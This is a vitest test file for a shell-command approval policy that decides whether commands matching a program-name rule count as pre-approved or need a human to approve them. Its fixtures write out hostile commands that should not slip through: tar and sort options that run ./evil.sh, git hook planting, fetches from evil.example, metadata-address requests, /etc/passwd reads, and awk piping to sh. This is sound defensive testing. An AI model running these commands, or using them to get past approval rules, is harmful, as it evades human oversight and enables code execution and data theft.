import { describe, expect, test } from "vitest";
import { compileShellPolicy, decideCommand } from "../../src/tools/shell/decide.ts";

/** What holds for a command under one rule that allows the beginning of it. */
const under = (pattern: string, text: string) =>
  decideCommand(text, compileShellPolicy({ default: "ask", rules: [{ pattern, approval: "preApproved" }] })).decision;

const programOf = (text: string) => text.split(" ")[0]!;

describe("a rule that names a program does not cover", () => {
  test.each([
    // An operand that the program would still take for an option, or for a predicate.
    "find -- . -delete",
    "find -- . -exec touch x ;",
    "git branch --contains -- -D main",
    "sort -- -o",
    // The first word of tar is a bundle of options, with or without a dash.
    "tar I ./evil.sh -tf x.tar",
    "tar F ./evil.sh -t -f x.tar",
    "tar fI x.tar ./evil.sh -t",
    "tar xf x.tar -t",
    "tar -xf x.tar",
    "tar -tf x.tar --to-command=./evil.sh",
    "tar -tf x.tar --checkpoint=1 --checkpoint-action=exec=./evil.sh",
    "tar -tf host:x.tar",
    "tar -tf x.tar -I ./evil.sh",
    // What git moves is moved before git looks where to.
    "git mv evil.sh .git/hooks/post-checkout",
    "git mv evil.sh sub/.GIT/hooks/post-checkout",
    "git mv evil sub/.git",
    // Options that take a value only when it is attached: the next word is an operand.
    "git diff -U /etc/passwd README.md",
    "git diff --unified /etc/passwd README.md",
    "git pull -j https://evil.example/x",
    "git pull --jobs ./evil",
    "git fetch -j ./evil",
    // Formats that make git run a program for signatures.
    "git log --format=%G?",
    "git log --format=%+G?",
    "git log '--pretty=% GK'",
    "git log --pretty=format:%-GS",
    "git for-each-ref '--format=%(signature:grade)'",
    // What was switched on can be switched off again by the next word.
    "tsc --noEmit false",
    "tsc --noEmit FALSE src/a.ts",
    "tsc --showConfig false",
    "tsc --noEmit null",
    "tsc --noEmit @options.txt",
    "vitest list --json package.json",
    // Filters that read the environment, or files of their own.
    "jq -n env",
    "jq -n '$ENV.HOME'",
    `jq '"m" | modulemeta' a.json`,
    "gh pr list --json title --jq env",
    "gh pr view 1 --json title -q '$ENV'",
    // Other machines than the one that is meant.
    "gh pr list -R evil.example/owner/repo",
    "gh pr view https://evil.example/o/r/pull/1",
    "gh repo view evil.example/o/r",
    "curl https://127.0.0.1.nip.io/",
    "curl https://example.com/",
    "curl -s http://169.254.169.254/",
    "curl --versio",
    "curl -K x https://example.com",
    "curl -so x https://example.com",
    // A value on one system is an operand on another.
    "column -n /etc/passwd",
    "ls -I /etc",
    "grep -C /etc x",
    // A start that runs, or gets, what files of the project name.
    "pnpm",
    "yarn",
    "yarn --version",
    "cargo --version",
    "cargo version",
    "rg --pre=./evil.sh x",
    "rg --pr ./evil.sh x",
    "rg -z x",
    "rg --hostname-bin=./evil.sh x",
    "rg --files /etc",
    "sort -o x a",
    "sort --compress-program=./evil.sh a",
    "sort --compress-prog=./evil.sh a",
    "sort -ox a",
    "sort --files0-from=x",
    "uniq a b",
    "sed -i s/a/b/ x",
    "sed -n 'w x' a",
    "sed 's/a/b/w x' a",
    "sed 's/a/b/e' a",
    "sed '1e touch x' a",
    "sed 'r /etc/passwd' a",
    "sed -f x a",
    "sed -ne 'w x' a",
    "sed --expression='w x' a",
    "sed '1{p;w x\n}' a",
    `awk 'BEGIN{system("x")}'`,
    `awk '{print > "x"}' a`,
    `awk '{print | "sh"}' a`,
    `awk '{ "x" | getline; print }' a`,
    `awk -f x a`,
    `awk '{print $1}{system("x")}' a`,
    "find . -fprintf x y",
    "find . -okdir x ;",
    "find . -execdir x ;",
    "find -L .",
    "find . -files0-from x",
    "make SHELL=./evil.sh",
    "make -f x",
    "make -C x all",
    "make --eval=x",
    "docker run -v /:/x a",
    "docker -H tcp://x ps",
    "docker --config=x ps",
    "npm run build",
    "npm --prefix=x ls",
    "npm exec x",
    "npm test",
    "npm ls --script-shell=x",
    "npm ls --userconfig=x",
    "node -e 1",
    "node --env-file=x --version x.js",
    "node -r ./x --version",
    "node --version x.js",
    "python3 -c 1",
    "python3 -m x",
    "python3 -VV -c 1",
    "pip install x",
    "go test ./...",
    "wc --files0-from=x",
    "md5sum -c x",
    "date -s 1",
    "date 010100002030",
    "file -C -m x",
    "tree -o x",
    "diff --to-file=/etc/passwd a",
    "grep -f /etc/passwd a",
    "grep -R x .",
    "eslint --fix .",
    "eslint -c x .",
    "eslint -f ./evil.js .",
    "prettier -w .",
    "prettier --plugin=x a",
  ])("%s", (text) => {
    expect(under(programOf(text), text)).toBe("ask");
  });
});

describe("a rule that names a program covers", () => {
  test.each([
    "find . -name '*.ts' -type f",
    "find . ! -name x -mtime -7",
    "tar -tzf x.tar.gz",
    "tar --list --file=x.tar",
    "git mv a.txt sub/b.txt",
    "git mv a.txt .gitignore",
    "git diff -U5 HEAD~1",
    "git diff --unified=5",
    "git diff -- a.txt",
    "git log --format='%h %an %s'",
    "git fetch --jobs=4 --prune",
    "git blame --abbrev=8 a.txt",
    "tsc --noEmit -p .",
    "jq -r '.environment | .[] | .name' a.json",
    "gh pr list -R owner/repo --json title --jq '.[].title'",
    "gh pr view 12",
    "gh repo view owner/repo",
    "curl --version",
    "grep -rn -C 3 x src",
    "rg -n -A3 x src",
    "ls -la src",
    "sed -n 1,20p a.txt",
    "sed 's/a/b/g' a.txt",
    "awk '{print $1, $NF}' a.txt",
    "sort -t / -k 2 a.txt",
    "cut -d / -f 1 a.txt",
    "node --version",
    "npm ls --depth=0",
    "docker ps -a",
  ])("%s", (text) => {
    expect(under(programOf(text), text)).toBe("preApproved");
  });
});

describe("a rule that spells a command out covers it", () => {
  test.each([
    ["curl https://example.com/a", "curl https://example.com/a"],
    ["curl -s https://example.com/a", "curl -s https://example.com/a"],
    ["curl https://example.com/a", "curl https://example.com/a -s"],
    ["npm run build", "npm run build"],
    ["cargo version", "cargo version"],
    ["make test", "make test -j4"],
  ])("%j: %j", (pattern, text) => {
    expect(under(pattern, text)).toBe("preApproved");
  });

  test.each([
    ["curl https://example.com/a", "curl https://example.com/b"],
    ["curl https://example.com/a", "curl https://example.com/a https://example.com/b"],
    ["curl https://example.com/a", "curl https://example.com/a -o x"],
    ["npm run build", "npm run build -- --x"],
    ["make test", "make test SHELL=./evil.sh"],
  ])("%j does not cover %j", (pattern, text) => {
    expect(under(pattern, text)).toBe("ask");
  });
});
